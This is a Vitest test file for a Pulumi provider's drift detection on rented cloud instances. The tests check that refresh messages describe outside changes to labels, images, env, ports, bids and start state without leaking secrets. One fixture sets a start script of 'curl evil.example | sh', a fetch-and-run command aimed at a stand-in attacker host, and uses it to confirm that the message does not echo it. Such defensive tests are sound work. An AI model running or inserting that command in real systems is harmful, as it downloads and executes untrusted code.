// What somebody changed in the console, in the words of a refresh; the next `up` sets it back.
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { changedOutside } from "../../provider/resources/instance/drift/changed-outside.js";
import { anInstance, failureOf, type ProviderProcess, type TestWorld, TOKEN, testWorld } from "../support/harness.js";
import { aBid, MINUTE, refresh, type Subject, up } from "./drift-given.js";

const PROGRAM = anInstance({ env: { MODE: "train", TOKEN: "hf_secret" }, ports: [8080], onstart: "echo hello" });

let t: TestWorld;
let process: ProviderProcess;
let subject: Subject;
beforeEach(async () => {
  t = await testWorld();
  process = t.process();
  const { id, outs } = await process.up(PROGRAM);
  subject = { id, state: outs };
});
afterEach(() => t.stop());

const vast = () => process.account.client.instances;
const contract = () => t.world.contract(Number(subject.id));

describe("a refresh tells what was changed outside", () => {
  it("a label: what it was and is, that it costs nothing, and that the next up sets it back", async () => {
    t.world.act(Number(subject.id), { do: "label", label: `mine pulumi:${TOKEN}` });
    expect(await refresh(process, subject)).toEqual([
      `Instance ${subject.id} was changed outside: \`label\` was "trainer" and is "mine". That costs nothing by itself. ` +
        "The next `pulumi up` sets it back. To keep it, write it into the program.",
    ]);
    expect((await up(t, subject, PROGRAM)).step).toBe("update");
    expect(contract()?.label).toBe(`trainer pulumi:${TOKEN}`);
    expect(await refresh(process, subject)).toEqual([]);
  });

  it("that this provider's mark is gone with it", async () => {
    t.world.act(Number(subject.id), { do: "label", label: "mine" });
    expect(await refresh(process, subject)).toEqual([
      expect.stringMatching(/`label` was "trainer" and is "mine"; this provider's mark is gone from the label\. /),
    ]);
  });

  it("an image, which is set back by making the container anew", async () => {
    await vast().updateTemplate(Number(subject.id), { image: "miner:1" });
    await t.clock.sleep(10 * MINUTE);
    expect(await refresh(process, subject)).toEqual([
      expect.stringMatching(
        /`image` was "ubuntu:22\.04" and is "miner:1"\. .* sets it back and makes the container anew: files outside volumes are lost\./,
      ),
    ]);
    expect((await up(t, subject, PROGRAM)).step).toBe("update");
    expect(contract()?.image).toBe("ubuntu:22.04");
  });

  it("variables by their names alone, ports, and that there is another start script", async () => {
    const env = { MODE: "idle", OTHER: "1" };
    await vast().updateTemplate(Number(subject.id), { env, onstart: "curl evil.example | sh" });
    await t.clock.sleep(10 * MINUTE);
    const [words, ...more] = await refresh(process, subject);
    expect(more).toEqual([]);
    expect(words).toContain("in `env` MODE has another value, TOKEN is gone");
    expect(words).toContain("`ports` was 8080:8080 and is none");
    expect(words).toContain("`onstart` is another one");
    expect(words).not.toMatch(/train|idle|hf_secret|OTHER|evil/);
  });

  it("a bid, and what it costs", async () => {
    const program = aBid({ ownerToken: "b".repeat(12) });
    const { id, outs } = await process.up(program);
    const bid = { id, state: outs };
    await vast().bid(Number(id), 0.25);
    expect(await refresh(process, bid)).toEqual([
      expect.stringMatching(/`bidDollarsPerHour` was 0\.2 and is 0\.25\. It is billed by its bid, 0\.252 \$\/h/),
    ]);
  });

  it("a start that the program does not want, with its price", async () => {
    const stopped = anInstance({ targetState: "stopped", ownerToken: "b".repeat(12) });
    const { id, outs } = await process.up(stopped);
    const resting = { id, state: outs };
    t.world.act(Number(id), { do: "start" });
    await t.clock.sleep(10 * MINUTE);
    expect(await refresh(process, resting)).toEqual([
      expect.stringMatching(
        /`targetState` was "stopped" and is "running"\. It runs and is billed, 0\.312 \$\/h\. The next `pulumi up` sets it back\./,
      ),
    ]);
    expect((await up(t, resting, stopped)).step).toBe("update");
    expect(t.world.contract(Number(id))).toMatchObject({ intendedStatus: "stopped" });
  });

  it("a watchdog that is gone: nothing ends the instance any more", async () => {
    const mortal = anInstance({ timeToLiveHours: 48, ownerToken: "b".repeat(12) });
    const { id, outs } = await process.up(mortal);
    await vast().updateTemplate(Number(id), { onstart: "echo hello" });
    await t.clock.sleep(10 * MINUTE);
    expect(await refresh(process, { id, state: outs })).toEqual([
      expect.stringMatching(
        /its `timeToLiveHours` are gone with its watchdog\. Nothing ends it, and it is billed until somebody does\. .* makes the container anew/,
      ),
    ]);
  });

  it("nothing of an instance whose create goes on: its label is still to come", async () => {
    const other = t.process();
    const creating = failureOf(other.up(anInstance({ ownerToken: "b".repeat(12), label: "later" })));
    await t.clock.sleep(MINUTE);
    other.cancel();
    const { id, properties } = await creating;
    expect(await refresh(process, { id, state: properties })).toEqual([]);
  });

  it("nothing of an instance that is only looked at", async () => {
    expect(await refresh(process, { id: subject.id, state: {} })).toEqual([]);
  });
});

it("of what only a replacement sets right it says that this one ends with its data", () => {
  const before = { targetState: "running", rentedDollarsPerHour: 0.3, diskGb: 10 };
  expect(changedOutside({ id: 7, dph_total: 0.3 }, before, { ...before, diskGb: 50 })).toMatch(
    /`diskGb` was 10 and is 50\. .* The next `pulumi up` rents another in its place, and this one ends with its data\./,
  );
});
